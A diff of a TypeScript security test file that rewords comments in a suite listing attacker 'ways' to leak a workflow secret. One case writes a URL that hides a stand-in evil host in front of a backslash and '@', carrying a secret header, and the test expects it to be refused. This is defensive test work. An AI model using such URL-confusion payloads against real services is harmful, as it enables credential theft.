@@ -19,14 +19,14 @@ afterAll(() => world?.close());
 type Fields = Record<string, unknown>;
 type Secret = { name: string; value: string };
 
-/** What somebody writes to get at a value; `secret` is how a text refers to it. */
+/** What an attacker writes to get a value; `secret` is how a text refers to it. */
 interface Way {
   write(secret: string, name: string): Fields;
   /** A change after the first write. */
   change?(): Fields;
-  /** What a workflow, or somebody who tests it, runs it with. */
+  /** What a workflow or a tester runs it with. */
   variables?(secret: string, name: string): Fields;
-  /** Nothing that a person could allow makes it work: it is refused at once, or sends something else. */
+  /** No permission makes it work: it is refused at once, or sends something else. */
   isHopeless?: true;
 }
 
@@ -52,7 +52,7 @@ const requestWays: Record<string, Way> = {
   },
   'the own host behind a backslash': {
     write: (s) => ({ url: `https://${world.evil.host}\\@${world.home.host}/`, ...header(s) }),
-    // The host of such an address is called ambiguous.
+    // The host of such an address is refused as ambiguous.
     isHopeless: true,
   },
   'the own host as a fragment': {
